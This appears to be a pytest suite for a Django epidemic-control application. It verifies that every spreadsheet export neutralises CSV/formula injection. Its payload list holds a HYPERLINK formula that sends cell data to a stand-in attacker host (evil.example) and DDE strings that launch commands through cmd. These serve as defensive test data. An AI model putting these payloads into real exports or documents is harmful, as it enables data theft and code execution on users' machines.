"""Every spreadsheet the system hands out keeps typed text as text: a name, an address, a note or a report
comment that starts with "=" (or +, -, @, a tab, a carriage return) never becomes a live formula
(OWASP "CSV injection"), while dates and numbers stay typed cells.

The test walks every download route that ends in .xlsx or .csv (found through the URL resolver, so that a
new export cannot slip through) with data carrying such values, and opens each file with openpyxl.
"""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from chongdich.core import clock
from chongdich.core.spreadsheets import write_numbered_sheet, write_xlsx
from tests.helpers import run_job

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Xem chi tiết")'
PAYLOADS = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _downloads(patterns=None, prefix="") -> set[str]:
    """Names of every route that serves a spreadsheet."""
    names = set()
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            names |= _downloads(pattern.url_patterns, namespace)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith((".xlsx", ".csv")) and pattern.name:
            names.add(prefix + pattern.name)
    return names


def _cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.fixture
def poisoned(world, personas, make_person, confirm, expose):  # noqa: F811 - fixtures imported above
    """Records of Đức Hạnh whose typed text starts like a formula, and the downloads that carry them."""
    from chongdich.reports.actions import do_send_report
    from chongdich.testing.actions import do_add_targets, do_create_campaign, do_register_sample
    from chongdich.testing.models import Lab

    today = clock.today()
    source = make_person(full_name=HYPERLINK, address=PAYLOADS[1], notes=PAYLOADS[2], cccd=None)
    case = confirm(source, notes=HYPERLINK)
    contact = make_person(full_name=PAYLOADS[3], address=HYPERLINK, cccd=None)
    expose(source, contact)
    lab = Lab(name="CDC Bình Phước", code="CDC-BP", daily_capacity=300)
    lab.place_in(world.province)
    lab.save()
    do_register_sample(personas["national"], person=source, kind="rt_pcr", reason="f1", taken_on=today, lab=lab)
    campaign, _ = do_create_campaign(
        personas["national"], unit=world.commune, data={"name": "Sàng lọc", "start": today, "sample_kind": "rt_pcr"}
    )
    do_add_targets(personas["national"], campaign, [contact])  # not tested yet
    do_send_report(
        personas["commune"],
        world.commune,
        today,
        comments=HYPERLINK,
        signer=PAYLOADS[3],
        recipients=f"{PAYLOADS[2]}\n{PAYLOADS[1]}",
    )
    rejected = run_job(
        personas["commune"],
        "people.persons",
        world.commune,
        "ds.csv",
        f'Họ và tên,Giới tính,Năm sinh\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",X,1970\n'.encode(),
        confirm=False,
    )
    assert rejected.rejected_file
    # vaccination — stock: a site whose name starts like a formula, holding doses
    from chongdich.vaccination.actions.stock import do_create_site, do_receive
    from chongdich.vaccination.models import Lot

    site, _ = do_create_site(personas["commune"], unit=world.commune, data={"name": HYPERLINK})
    lot = Lot.objects.create(product="AZ", number="ABV5300", expires_on=date(2099, 1, 1), source=PAYLOADS[1])
    do_receive(personas["commune"], site, lot=lot, doses=10, day=today, note=PAYLOADS[2])
    session = _vaccination_targets(world, personas, source, today)  # vaccination — targets
    # movement — declarations: a declaration whose typed texts start like formulas
    from chongdich.movement.actions.declarations import do_declare

    declared = {"full_name": HYPERLINK, "birth_year": 1980, "sex": "male", "phone": "0912 000 333"}
    declared |= {"commune_code": world.commune.code, "address": PAYLOADS[1], "arrived_from_text": PAYLOADS[2]}
    declared |= {"transport": "car", "transport_detail": PAYLOADS[3][:60]}
    do_declare(None, declared, "formula-declaration", "vi")
    # movement — a checkpoint's passage, a green-lane card and an undeclared-arrival alert typed like formulas
    from chongdich.movement.actions.alerts import do_report_undeclared
    from chongdich.movement.actions.checkpoints import do_create_checkpoint, do_record_passage
    from chongdich.movement.actions.greenlane import do_issue_card

    checkpoint, _ = do_create_checkpoint(
        personas["commune"], unit=world.commune, data={"name": HYPERLINK, "kind": "internal", "way": "road"}
    )
    do_record_passage(
        personas["commune"],
        checkpoint,
        {"plate": "93C-111.22", "vehicle_type": "car", "action": "through", "full_name": HYPERLINK},
    )
    card = {"plate": "51C-123.45", "vehicle_type": "truck", "operator": HYPERLINK, "driver_name": PAYLOADS[1][:120]}
    card |= {"driver_phone": "0912345678", "goods": PAYLOADS[2], "essential": True, "itinerary": PAYLOADS[3]}
    do_issue_card(personas["commune"], unit=world.commune, data=card | {"valid_from": today, "valid_to": today})
    do_report_undeclared(
        personas["commune"], unit=world.village, full_name=HYPERLINK, arrived_on=today, came_from=PAYLOADS[1][:100]
    )
    # forecast — a threshold whose subject (a facility's typed name) starts like a formula
    from chongdich.forecast.models import Runout

    runout = Runout(as_of=today, kind="beds", subject=HYPERLINK, subject_ref="facility:0:icu", capacity=10, current=9)
    runout.days, runout.detail = 2, {"measure": PAYLOADS[1]}
    runout.place_in(world.commune)
    runout.save()
    forecast_day = {"unit": world.commune.code, "day": today.isoformat()}
    return {
        "forecast:ranking_export": reverse("forecast:ranking_export")
        + "?"
        + "&".join(f"{k}={v}" for k, v in forecast_day.items()),
        "forecast:runout_export": reverse("forecast:runout_export")
        + "?"
        + "&".join(f"{k}={v}" for k, v in forecast_day.items()),
        "movement:passages_export": reverse("movement:passages_export"),
        "movement:card_export": reverse("movement:card_export"),
        "movement:alerts_export": reverse("movement:alerts_export"),
        "movement:declaration_export": reverse("movement:declaration_export"),
        "vaccination:stock_export": reverse("vaccination:stock_export"),
        "vaccination:targets_export": reverse("vaccination:targets_export"),
        "vaccination:due_export": reverse("vaccination:due_export"),
        "vaccination:invitations_export": reverse("vaccination:invitations_export", args=[session.pk]),
        "people:export": reverse("people:export"),
        "surveillance:export": reverse("surveillance:export"),
        "surveillance:contacts_export": reverse("surveillance:contacts_export", args=[case.pk]),
        "surveillance:contacts_template": reverse("surveillance:contacts_template", args=[case.pk]),
        "surveillance:worklist_export": reverse("surveillance:worklist_export"),
        "testing:samples_export": reverse("testing:samples_export"),
        "testing:campaign_untested_export": reverse("testing:campaign_untested_export", args=[campaign.pk]),
        "reports:xlsx": reverse("reports:xlsx", args=[world.commune.code, today.isoformat()]),
        "desk:import_rejected": reverse("desk:import_rejected", args=[rejected.pk]),
        "desk:import_template": reverse("desk:import_template", args=["people.persons"]),
    }


def _vaccination_targets(world, personas, person, today):
    """vaccination — targets: the person had a first dose ten weeks ago (due for the second), and is
    invited to tomorrow's session."""
    from chongdich.vaccination.actions.targets import do_invite
    from chongdich.vaccination.models import Dose, Session, Site

    dose = Dose(
        person=person, product="AZ", given_on=today - timedelta(days=70), number=1, lot_number=PAYLOADS[1]
    )  # lot numbers are ≤ 40 characters
    dose.place_in(person.unit)
    dose.save()
    site = Site(name=HYPERLINK, address=PAYLOADS[1])
    site.place_in(world.commune)
    site.save()
    session = Session(site=site, day=today + timedelta(days=1))
    session.place_in(world.commune)
    session.save()
    do_invite(personas["national"], session, [person])
    return session


def test_no_export_writes_a_formula(client_of, poisoned):
    assert _downloads() == set(poisoned), "a new spreadsheet download must be added to this test"
    client = client_of("commune")
    for name, url in poisoned.items():
        response = client.get(url)
        assert response.status_code == 200, name
        content = b"".join(response.streaming_content) if response.streaming else response.content
        cells = list(_cells(content))
        formulas = [f"{cell.coordinate}: {cell.value}" for cell in cells if cell.data_type == "f"]
        assert not formulas, f"{name} writes formulas: {formulas}"
        if name not in ("desk:import_template", "surveillance:contacts_template", "forecast:ranking_export"):
            # (templates carry no records; the ranking holds unit names and figures only, nothing typed)
            assert HYPERLINK in {cell.value for cell in cells}, f"{name} lost the text as typed"
        for cell in cells:
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.data_type == "s" and cell.quotePrefix, f"{name} {cell.coordinate} is not marked as text"


def test_every_import_template_writes_no_formula(client_of):
    from chongdich.core.imports import REGISTRY

    client = client_of("national")
    for kind in REGISTRY:
        response = client.get(reverse("desk:import_template", args=[kind]))
        assert response.status_code == 200 and not [c for c in _cells(response.content) if c.data_type == "f"], kind


@pytest.mark.parametrize("payload", PAYLOADS)
def test_writers_keep_formula_text_as_text_and_types_as_types(payload):
    day, moment = date(2021, 8, 20), datetime(2021, 8, 20, 14, 30)
    for content in (
        write_xlsx(["a", "b", "c", "d"], [[payload, day, 1987, moment]]),
        write_numbered_sheet("x", ["No.", "a", "b", "c", "d"], [[payload, day, 1987, moment]])[0],
    ):
        cells = {cell.value: cell for cell in _cells(content) if cell.value is not None}
        payload = payload.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert cells[payload].data_type == "s" and cells[payload].quotePrefix
        assert cells[datetime(2021, 8, 20)].is_date and cells[moment].is_date  # dates stay dates
        assert cells[1987].data_type == "n"  # numbers stay numbers


def test_control_characters_do_not_break_an_export():
    """openpyxl refuses a control character (text pasted from Word) with an exception: escaped the OOXML way."""
    for content in (
        write_numbered_sheet("x", ["No.", "a"], [["Ghi chú\x0bdán từ Word"]])[0],
        write_xlsx(["a"], [["Ghi chú\x0bdán từ Word"]]),
    ):
        assert [c.value for c in _cells(content)][-1] == "Ghi chú_x000B_dán từ Word"  # Excel shows the character


def test_csv_values_are_neutralised():
    from chongdich.core.spreadsheets import csv_safe

    assert [csv_safe(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert csv_safe("Nguyễn Văn An") == "Nguyễn Văn An" and csv_safe(1987) == 1987
